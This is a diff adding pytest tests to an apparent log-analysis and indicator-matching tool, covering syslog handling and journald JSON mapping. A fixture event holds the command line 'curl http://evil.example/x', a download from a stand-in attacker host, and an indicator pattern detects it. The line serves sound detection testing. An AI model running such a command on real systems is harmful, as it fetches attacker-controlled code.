@@ -3,6 +3,8 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
+from pathlib import Path
 
 import pytest
 
@@ -297,3 +299,39 @@ def test_empty_evidence_answers_cannot_tell(checked):
     adds_up(result)
     assert {answer.answer for answer in result.answers} == {"cannot_tell"}
     assert result.totals.files_unread == 1
+
+
+SYSLOG = "Mar  2 08:15:00 web1 sshd[71]: Failed password for root from 203.0.113.7 port 22 ssh2\n"
+
+
+def test_syslog_is_named_as_not_read_and_its_warnings_are_not_told_as_clean(checked, tmp_path):
+    (tmp_path / "evidence").mkdir()
+    (tmp_path / "evidence" / "auth.log").write_text(SYSLOG * 3)
+    result = checked([row("2021-03-02T08:00:00Z")], [indicator(1, "[domain-name:value = 'evil.example']")])
+    report = next(one for one in result.evidence if one.file.endswith("auth.log"))
+    assert (report.format, report.rows) == ("", 0)
+    assert "it is syslog" in report.problem
+    assert "journalctl -o json" in report.problem
+    assert result.totals.files_unread == 1
+    assert exit_code(result, fail_on="low", allow_unchecked=False) == UNCHECKED
+
+
+def test_the_journal_as_json_is_read_with_the_mapping_of_the_how_to(checked, tmp_path):
+    page = (Path(__file__).parents[3] / "docs" / "how-to" / "read-syslog.md").read_text()
+    mapping = tmp_path / "journal.toml"
+    mapping.write_text(re.search(r'```toml title="journal.toml"\n(.*?)```', page, re.DOTALL)[1])
+    events = [
+        {"__REALTIME_TIMESTAMP": "1614672900000000", "_HOSTNAME": "web1", "_EXE": "/usr/sbin/sshd", "_CMDLINE": "sshd: root [priv]",
+         "MESSAGE": "Failed password for root from 203.0.113.7 port 22 ssh2"},
+        {"__REALTIME_TIMESTAMP": "1614672901000000", "_HOSTNAME": "web1", "_EXE": "/usr/bin/curl", "_CMDLINE": "curl http://evil.example/x",
+         "MESSAGE": [104, 105]},
+    ]  # fmt: skip
+    wanted = [
+        indicator(1, "[process:command_line LIKE '%evil.example%' AND process:image_ref.name = 'curl']"),
+        indicator(2, "[process:command_line = 'never']"),
+        indicator(3, "[ipv4-addr:value = '203.0.113.7']"),
+    ]
+    result = checked(list(map(json.dumps, events)), wanted, mapping=mapping)
+    (found,) = result.findings
+    assert (found.where, found.first_seen) == ("web1", "2021-03-02T08:15:01.000Z")
+    assert [one.answer for one in result.answers] == ["hit", "cannot_tell", "cannot_tell"]
